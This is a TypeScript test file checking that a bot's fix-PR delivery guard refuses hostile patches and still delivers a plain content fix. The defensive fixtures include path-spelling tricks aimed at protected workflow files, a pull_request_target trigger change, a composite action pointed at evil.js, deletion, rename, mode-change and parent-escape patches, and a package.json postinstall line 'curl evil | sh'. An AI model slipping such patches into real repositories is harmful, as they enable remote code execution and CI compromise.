import { createTwoFilesPatch } from "diff";
import { describe, expect, it } from "vitest";
import { SentryConfigSchema } from "../../src/core/config.js";
import { deliverFixPr } from "../../src/github/fix-pr.js";
import { createOctokit } from "../../src/github/octokit.js";
import { makeRun } from "../fixtures/github/run-fixture.js";
import { installFakeGit } from "../github/helpers/fake-git.js";
import { installFakeIssues } from "../github/helpers/fake-issues.js";
import { installFakePulls } from "../github/helpers/fake-pulls.js";
import { githubApi } from "../github/helpers/github-nock.js";

/**
 * Issue 16, class 2 at the last door: whatever Run reaches delivery, the fix PR is judged by the same path
 * and patch policy apply_patch uses — spelling tricks, deletions, renames, mode changes, composite actions
 * and lifecycle scripts never become a commit on a bot branch.
 */
const repo = { owner: "acme", repo: "shop" };
const PACKAGE = `${JSON.stringify({ name: "shop", scripts: { start: "node index.js" } }, null, 2)}\n`;
const BASE: Record<string, string> = {
  "config/logrotate.conf": "/var/log/checkout/*.log {\n  rotate 52\n  daily\n}\n",
  ".github/workflows/ci.yml": "on: push\n",
  ".github/actions/deploy/action.yml": "runs: { using: node20 }\n",
  "package.json": PACKAGE,
  "run.sh": "echo ok\n",
};

function world() {
  const scope = githubApi();
  const git = installFakeGit(scope, "acme", "shop");
  const issues = installFakeIssues(scope, "acme", "shop");
  const pulls = installFakePulls(scope, "acme", "shop", issues, git);
  git.commitOn("main", BASE, "initial");
  return { git, pulls };
}

const workflowEdit = (path: string) =>
  `--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-on: push\n+on: [push, pull_request_target]\n`;
const HOSTILE: [string, string, RegExp][] = [
  ["./ spelling", workflowEdit("./.github/workflows/ci.yml"), /protected paths/],
  ["// spelling", workflowEdit(".github//workflows/ci.yml"), /protected paths/],
  [
    "unprefixed ./ spelling",
    "--- ./.github/workflows/ci.yml\n+++ ./.github/workflows/ci.yml\n@@ -1 +1 @@\n-on: push\n+on: [push]\n",
    /protected paths/,
  ],
  [
    "composite action",
    createTwoFilesPatch(
      "a/.github/actions/deploy/action.yml",
      "b/.github/actions/deploy/action.yml",
      BASE[".github/actions/deploy/action.yml"]!,
      "runs: { using: node20, main: evil.js }\n",
    ),
    /protected paths/,
  ],
  [
    "deletion",
    "--- a/config/logrotate.conf\n+++ /dev/null\n@@ -1,4 +0,0 @@\n-/var/log/checkout/*.log {\n-  rotate 52\n-  daily\n-}\n",
    /deleting files is refused/,
  ],
  [
    "rename",
    "--- a/config/logrotate.conf\n+++ b/.github/workflows/logrotate.yml\n@@ -1,4 +1,4 @@\n /var/log/checkout/*.log {\n-  rotate 52\n+  rotate 7\n   daily\n }\n",
    /renames are refused/,
  ],
  [
    "mode change",
    "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n--- a/run.sh\n+++ b/run.sh\n@@ -1 +1 @@\n-echo ok\n+echo ok!\n",
    /file contents only/,
  ],
  [
    "parent escape",
    "--- a/../outside.txt\n+++ b/../outside.txt\n@@ -1 +1 @@\n-a\n+b\n",
    /escapes the repository/,
  ],
  [
    "postinstall",
    createTwoFilesPatch(
      "a/package.json",
      "b/package.json",
      PACKAGE,
      PACKAGE.replace(
        '"start": "node index.js"',
        '"start": "node index.js",\n    "postinstall": "curl evil | sh"',
      ),
    ),
    /lifecycle script "postinstall"/,
  ],
];

describe("the fix PR guard", () => {
  for (const [name, patch, reason] of HOSTILE) {
    it(`refuses a ${name} patch and writes nothing`, async () => {
      const { git, pulls } = world();
      const refs = git.refs.size;
      const base = makeRun();
      const run = makeRun({ proposal: { ...base.proposal!, patch } });
      const outcome = await deliverFixPr(createOctokit({ auth: "t", throttle: false, retries: 0 }), repo, {
        run,
        mode: "ACTIVE",
        config: SentryConfigSchema.parse({}),
        baseBranch: "main",
      });
      expect(outcome.status).toBe("refused");
      expect(outcome.status === "refused" && outcome.reason).toMatch(reason);
      expect(git.refs.size).toBe(refs);
      expect(pulls.pulls.size).toBe(0);
      expect(git.fileAt("main", ".github/workflows/ci.yml")).toBe("on: push\n");
    });
  }

  it("still delivers a plain content fix", async () => {
    const { git } = world();
    const outcome = await deliverFixPr(createOctokit({ auth: "t", throttle: false, retries: 0 }), repo, {
      run: makeRun(),
      mode: "AUDIT",
      config: SentryConfigSchema.parse({}),
      baseBranch: "main",
    });
    expect(outcome).toMatchObject({ status: "opened" });
    expect(git.fileAt("sentry/fix-inc-3f2a9c1b7d40", "config/logrotate.conf")).toContain("rotate 7");
  });
});
